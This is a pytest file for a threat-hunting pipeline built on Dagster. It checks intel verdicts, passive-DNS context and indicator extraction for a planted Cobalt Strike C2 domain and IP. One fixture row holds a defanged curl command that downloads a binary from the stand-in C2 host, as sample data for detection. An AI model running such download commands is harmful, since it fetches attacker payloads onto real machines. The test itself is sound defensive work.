"""The intel assets in sample mode: planted entities get real verdicts; nothing needs the network."""

from __future__ import annotations

from datetime import date, datetime

import dagster as dg
import duckdb
import pandas as pd
import pytest

from hunt_assets.assets.intel import (
    TIProvidersResource,
    domain_context,
    hunt_indicators,
    hunt_ti_verdicts,
    indicator_severity,
    ti_providers_from_env,
    ti_verdicts,
)
from hunt_assets.resources import HuntingResource, HuntSettings, WarehouseResource
from hunt_assets.warehouse.store import Warehouse

PLANTED = "cdn-update.example-c2.xyz"
DAY = date(2026, 11, 16)


@pytest.fixture
def lake(tmp_path):
    path = tmp_path / "sample_tenant.duckdb"
    con = duckdb.connect(str(path))
    con.execute(
        "CREATE TABLE HuntGroundTruth (incident VARCHAR, kind VARCHAR, device_name VARCHAR, "
        "device_id VARCHAR, entity VARCHAR, detail VARCHAR, first_seen TIMESTAMP, last_seen TIMESTAMP)"
    )
    con.execute(
        "INSERT INTO HuntGroundTruth VALUES (?, ?, ?, ?, ?, ?, ?, ?), (?, ?, ?, ?, ?, ?, ?, ?)",
        [
            "inc-1",
            "c2_domain",
            "ws-01",
            "d1",
            PLANTED,
            "CobaltStrike",
            datetime(2026, 11, 16),
            datetime(2026, 11, 17),
            "inc-1",
            "c2_ip",
            "ws-01",
            "d1",
            "203.0.113.66",
            "CobaltStrike",
            datetime(2026, 11, 16),
            datetime(2026, 11, 17),
        ],
    )
    con.execute(
        "CREATE TABLE SamplePassiveDns (rrname VARCHAR, rrtype VARCHAR, rdata VARCHAR[], time_first "
        "TIMESTAMP, time_last TIMESTAMP, count BIGINT, bailiwick VARCHAR)"
    )
    con.execute(
        "INSERT INTO SamplePassiveDns VALUES (?, 'A', ['203.0.113.66'], now(), now(), 3, ?)",
        [PLANTED, "example-c2.xyz"],
    )
    con.close()
    return path


def _resources(tmp_path, lake, active=False):
    return {
        "warehouse": WarehouseResource(path=str(tmp_path / "hunt_warehouse.duckdb")),
        "settings": HuntSettings(backend="sample", lake_path=str(lake), active_lookups=active, data_dir=str(tmp_path)),
        "ti_providers": TIProvidersResource(),
        "hunting": HuntingResource(lake_path=str(lake)),
    }


def test_investigation_of_a_planted_domain_shows_real_verdicts(tmp_path, lake):
    instance = dg.DagsterInstance.ephemeral()
    instance.add_dynamic_partitions("investigated_domains", [PLANTED, "microsoft.com"])
    res = _resources(tmp_path, lake, active=True)
    for key in (PLANTED, "microsoft.com"):
        assert dg.materialize(
            [domain_context, ti_verdicts], resources=res, partition_key=key, instance=instance
        ).success
    assert dg.materialize([indicator_severity], resources=res, instance=instance).success
    wh = Warehouse(tmp_path / "hunt_warehouse.duckdb")
    sev = wh.query("SELECT indicator_type, indicator, combined_severity FROM intel.indicator_severity")
    by = dict(zip(sev["indicator"], sev["combined_severity"], strict=True))
    assert by[PLANTED] == "high"
    assert by["203.0.113.66"] == "high"
    assert by["microsoft.com"] == "information"
    certs = sev[sev["indicator_type"] == "cert_sha1"]
    assert "high" in set(certs["combined_severity"])  # the planted host's certificate is on SSLBL
    ctx = wh.query("SELECT * FROM intel.domain_context WHERE investigation = ?", [PLANTED])
    assert set(ctx[ctx["facet"] == "registration"]["passive"]) == {True}
    assert int(ctx[ctx["attribute"] == "age_days"]["value"].iloc[0]) <= 7


def test_rerun_replaces_and_passive_mode_skips_active_lookups(tmp_path, lake):
    instance = dg.DagsterInstance.ephemeral()
    instance.add_dynamic_partitions("investigated_domains", [PLANTED])
    res = _resources(tmp_path, lake, active=False)
    results = [
        dg.materialize([domain_context, ti_verdicts], resources=res, partition_key=PLANTED, instance=instance)
        for _ in range(2)
    ]
    wh = Warehouse(tmp_path / "hunt_warehouse.duckdb")
    ctx = wh.query("SELECT * FROM intel.domain_context")
    assert not ctx[ctx["source"].isin(["dns-live", "tls-live"])]["value"].str.startswith("203.").any()
    assert ctx[ctx["source"] == "pdns"]["value"].tolist() == ["203.0.113.66"]
    meta = results[1].asset_materializations_for_node("intel__ti_verdicts")[0].metadata
    assert meta["provider_calls"].value == 0
    assert meta["cache_hits"].value > 0
    counts = wh.query("SELECT scope, count(*) AS n FROM intel.ti_verdicts GROUP BY 1")
    assert len(counts) == 1


def test_hunt_results_are_extracted_and_enriched(tmp_path, lake):
    res = _resources(tmp_path, lake)
    wh = Warehouse(tmp_path / "hunt_warehouse.duckdb")
    wh.replace_partition(
        "hunts.suspicious_downloads",
        pd.DataFrame(
            {
                "partition_date": [DAY, DAY],
                "DeviceName": ["ws-01", "ws-02"],
                "ProcessCommandLine": [f"curl hxxp://{PLANTED.replace('.', '[.]')}/a.bin", "ping 10.0.0.7"],
                "RemoteIP": ["203.0.113.66", ""],
            }
        ),
        "partition_date",
        DAY,
    )
    instance = dg.DagsterInstance.ephemeral()
    assert dg.materialize(
        [hunt_indicators, hunt_ti_verdicts], resources=res, partition_key=DAY.isoformat(), instance=instance
    ).success
    inds = wh.query("SELECT * FROM intel.hunt_indicators")
    assert set(inds[inds["accepted"]]["indicator"]) == {f"http://{PLANTED}/a.bin", "203.0.113.66"}
    assert inds[~inds["accepted"]]["raw"].tolist() == ["10.0.0.7"]
    verdicts = wh.query("SELECT * FROM intel.ti_verdicts WHERE scope = ?", [f"hunts:{DAY}"])
    ip = verdicts[verdicts["indicator"] == "203.0.113.66"]
    assert "high" in set(ip["severity"])
    assert set(ip["status"]) <= {"ok", "not_found"}


def test_resource_from_env_uses_envvars_and_url_overrides(monkeypatch):
    monkeypatch.setenv("VT_API_KEY", "vt-secret-value-123")
    monkeypatch.setenv("HUNT_TI_SHODAN_URL", "http://127.0.0.1:9999")
    res = ti_providers_from_env()
    assert isinstance(res.vt_api_key, dg.EnvVar)
    assert res.base_urls == {"shodan": "http://127.0.0.1:9999"}
    cfg = TIProvidersResource(vt_api_key="vt-secret-value-123").provider_configs()
    assert "vt-secret-value-123" not in repr(cfg["virustotal"])
